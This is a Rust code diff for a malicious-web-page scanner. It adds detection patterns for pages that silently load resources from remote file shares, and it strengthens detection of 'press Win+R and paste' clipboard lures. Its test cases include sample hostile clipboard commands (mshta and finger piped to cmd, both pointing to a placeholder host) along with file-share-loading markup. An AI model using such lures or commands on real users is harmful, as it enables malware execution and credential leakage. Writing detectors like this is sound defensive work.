@@ -21,7 +21,11 @@ patterns! {
     SEARCH = r"search(?:-ms)?:(?:[^\s<>]{0,120}(?:crumb|location)|//?query)|search-ms:[^\s<>]";
     DIAGNOSTIC = r"ms-msdt:[^<>]{0,160}";
     REMOTE = r"\\\\[a-z0-9]|%5c%5c[a-z0-9]|https?:|https?%3a|file:|davwwwroot|@ssl";
-    GOES_TO_SHARE = r#"<meta\b[^<>]*refresh[^<>]*url\s*=\s*["']?\s*(?:file:/{2,5}[a-z0-9.-]*[a-z0-9][/@:\\]|\\\\[a-z0-9])[^<>]{0,160}|(?:location(?:\.href)?\s*=|location\.(?:replace|assign)\s*\(|window\.open\s*\()\s*["'](?:file:/{2,5}[a-z0-9.-]+\.[a-z0-9-]{2,}[/@:\\]|\\\\\\?\\?[a-z0-9])[^\r\n]{0,160}"#;
+    GOES_TO_SHARE = r#"<meta\b[^<>]*refresh[^<>]*(?:url\s*=|[=\s"'][0-9.]{0,8}\s*[;,])\s*["']?\s*(?:file:/{2,5}[a-z0-9.-]*[a-z0-9][/@:\\]|\\\\[a-z0-9])[^<>]{0,160}|(?:location(?:\.href)?\s*=|location\.(?:replace|assign)\s*\(|window\.open\s*\()\s*["'](?:file:/{2,5}[a-z0-9.-]+\.[a-z0-9-]{2,}[/@:\\]|\\\\\\?\\?[a-z0-9])[^\r\n]{0,160}"#;
+    // Loaded without a click, from a machine that has the name of a site.
+    LOADS_SHARED = r#"<(?:iframe|frame|img|embed|object|link|script|video|audio|source|track|body|table|td|th|tr|input|image|feimage|use|bgsound|v:imagedata|v:fill)\b[^<>]*[\s"'/](?:src|srcset|data|href|xlink:href|background|poster|lowsrc|dynsrc)\s*=\s*["']?\s*(?:file:/{2}|file:/{4,5}|file:/{0,3}\\{2}|\\{2})[a-z0-9][a-z0-9-]*(?:\.[a-z0-9-]+)+[@:\\/][^<>]{0,160}"#;
+    // The same in a style, in which a backslash is written twice.
+    STYLE_SHARED = r#"(?:url\(|@import)\s*["']?\s*(?:file:/{2}|file:/{4,5}|file:/{0,3}\\{2,4}|\\{4})[a-z0-9][a-z0-9-]*(?:\.[a-z0-9-]+)+[@:\\/][^<>)]{0,160}"#;
     SHARE = r#"<meta\b[^<>]*refresh[^<>]*url\s*=\s*["']?\s*file:[^<>]{0,160}|(?:location(?:\.href)?\s*=|location\.(?:replace|assign)\s*\(|window\.open\s*\()\s*["']file:[^\r\n]{0,160}|<(?:iframe|img|embed|object|link|script)\b[^<>]*(?:src|data|href)\s*=\s*["']?\s*(?:file:/{2,5}[a-z0-9.-]*[a-z][a-z0-9.-]*\.[a-z0-9-]{2,}[/@:\\]|\\\\[a-z0-9])[^<>]{0,160}"#;
 }
 
@@ -149,6 +153,10 @@ fn copies_command(part: &Part, page: &Page, findings: &mut Findings) {
             None if lure.is_some() => code.of_manuals().map(|value| (Severity::High, value)),
             None => code.of_manuals().map(|value| (Severity::Medium, value)),
         };
+        // A verification that ends in the Run dialog is none, whatever is pasted there.
+        let talked = || lure.as_ref().filter(|lure| lure.sure && lure.pretext && lure.keys);
+        let strong = found.as_ref().is_some_and(|(severity, _)| *severity == Severity::High);
+        let found = if strong { found } else { talked().map(|lure| (Severity::High, lure.words.clone())).or(found) };
         if let Some((severity, value)) = found {
             let message = "the page copies a command to the clipboard, for people to paste and run";
             let mut found = finding(CLICK_FIX, severity, message, &value).technique("T1204.004");
@@ -182,7 +190,11 @@ fn leads_to_share(page: &Page, findings: &mut Findings) {
     });
     let goes = all(&GOES_TO_SHARE).map(|value| (Severity::High, value, "the page leads to a file share by itself"));
     let share = all(&SHARE).map(|value| (Severity::Medium, value, "the page leads to a file share by itself"));
-    let all = diagnostic.chain(search).chain(goes).chain(share);
+    let styles = page.markup.contains("<style") || page.tags.contains("style=");
+    let styled = styles.then(|| STYLE_SHARED.find_iter(&page.markup).map(|m| m.as_str())).into_iter().flatten();
+    let loads = LOADS_SHARED.find_iter(&page.tags).map(|m| m.as_str()).chain(styled);
+    let loads = loads.map(|value| (Severity::High, value, "the page loads something from a file share by itself"));
+    let all = diagnostic.chain(search).chain(goes).chain(loads).chain(share);
     // Of several as bad, the first.
     let worst = all.reduce(|worst, next| if next.0 > worst.0 { next } else { worst });
     if let Some((severity, value, message)) = worst {
@@ -224,6 +236,21 @@ mod tests {
                 "<button onclick=\"navigator.clipboard.writeText('mshta https://host.invalid/a')\">x</button>",
                 &[COPIES],
             ),
+            (
+                "html",
+                "To verify you are human press Win+R, Ctrl+V and Enter <script>navigator.clipboard.writeText('winget x')</script>",
+                &[COPIES],
+            ),
+            (
+                "html",
+                "Press Win+R <script>navigator.clipboard.writeText('\\\\\\\\host.invalid\\\\s\\\\a.exe')</script>",
+                &[COPIES],
+            ),
+            (
+                "html",
+                "Press Win+R <script>navigator.clipboard.writeText('finger a@host.invalid | cmd')</script>",
+                &[COPIES],
+            ),
             ("html", "<script>navigator.clipboard.writeText(atob('cG93ZXJzaGVsbCAtYyBlY2hv'))</script>", &[COPIES]),
             (
                 "html",
@@ -239,6 +266,11 @@ mod tests {
             ),
             ("html", "<script>window.location.href = 'ms-msdt:/id PCWDiagnostic'</script>", &["page.search-ms high"]),
             ("html", "<meta http-equiv=refresh content='0;url=file://host.invalid/s/a'>", &["page.search-ms high"]),
+            ("html", "<meta http-equiv=refresh content='0; file://host.invalid/s/a'>", &["page.search-ms high"]),
+            ("html", "<img src='file://host.invalid/s/a.png'>", &["page.search-ms high"]),
+            ("html", "<img srcset='file:///\\\\host.invalid\\s\\a.png 2x'>", &["page.search-ms high"]),
+            ("html", "<body background='\\\\host.invalid\\s\\a.png'>", &["page.search-ms high"]),
+            ("html", "<style>p{background:url(file://host.invalid/s/a.png)}</style>", &["page.search-ms high"]),
         ] {
             check(&Pages, kind, text, expected);
         }
@@ -251,6 +283,11 @@ mod tests {
                 "html",
                 "<p>Use <code>atob('WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FS')</code>, new Blob( and a.download = in JavaScript; ms-msdt: and search-ms:query=a&crumb=b are handlers.</p>",
             ),
+            (
+                "html",
+                "<p>Press Win+R, type winver, paste it with Ctrl+V</p><script>navigator.clipboard.writeText(code.innerText)</script>",
+            ),
+            ("html", "<p>Point a finger at a@host.invalid</p><script>navigator.clipboard.writeText(mail)</script>"),
             ("html", "<p>Press Win+R, run cmd /c dir</p><pre>powershell -c echo</pre>"),
             (
                 "html",
@@ -269,6 +306,11 @@ mod tests {
                 "<a href='data:text/plain,hello' download='a.txt'>x</a><a href='file:///usr/share/doc/x.html'>y</a>",
             ),
             ("html", "<pre>&lt;a onclick=\"navigator.clipboard.writeText('mshta https://host.invalid')\"&gt;</pre>"),
+            (
+                "html",
+                "<img src='file:///C:/a.b/c.png'><img src='file:///home/a.b/c.png'><img src='//cdn.invalid/a.png'>",
+            ),
+            ("html", "<p>@import url(file://host.invalid/s/a.css) is what a style would say</p>"),
             ("svg", "<svg><title>script onload=</title><path d='M0 0'/></svg>"),
             ("xml", "<list><item>search-ms:query=a&amp;crumb=b</item></list>"),
         ] {
